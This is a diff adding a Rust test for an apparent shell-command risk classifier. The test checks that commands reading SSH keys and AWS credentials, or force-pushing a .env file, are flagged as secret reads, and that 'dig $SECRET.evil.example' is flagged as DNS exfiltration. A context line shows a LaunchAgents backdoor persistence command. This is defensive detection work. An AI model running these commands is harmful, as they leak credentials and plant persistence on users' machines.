@@ -802,3 +802,33 @@ fn devices_environment_searches_and_official_registries() {
     );
     assert_risk("cp backdoor.plist ~/Library/LaunchAgents/", Persistence);
 }
+
+#[test]
+fn reads_through_redirections_globs_and_git_staging() {
+    for command in [
+        "echo \"$(< ~/.ssh/id_rsa)\"",
+        "while read l; do echo $l; done < ~/.aws/credentials",
+        "cat ~/.ssh/*",
+        "git add -f .env && git push",
+    ] {
+        assert_risk(command, SecretRead);
+    }
+    for benign in [
+        "sed -i 's/DEBUG=1/DEBUG=0/' .env",
+        "openssl req -x509 -newkey rsa:2048 -keyout ./certs/key.pem -out ./certs/cert.pem -nodes",
+        "ls ~/.ssh/*.pub",
+        "git add src/main.rs",
+    ] {
+        assert!(
+            !kinds(benign).contains(&SecretRead),
+            "{benign:?}: {:?}",
+            kinds(benign)
+        );
+    }
+    assert!(!kinds("nslookup $HOSTNAME").contains(&DnsExfil));
+    assert_risk("dig $SECRET.evil.example", DnsExfil);
+    assert!(kinds("find /tmp -name 'build-*' -mtime +1 -delete").is_empty());
+    let a = analyze("for f in a b; do echo $f; done > out.txt", &CTX);
+    assert_eq!(a.segments(), 1, "a redirection is not a command");
+    assert_eq!(a.programs(), ["echo"]);
+}
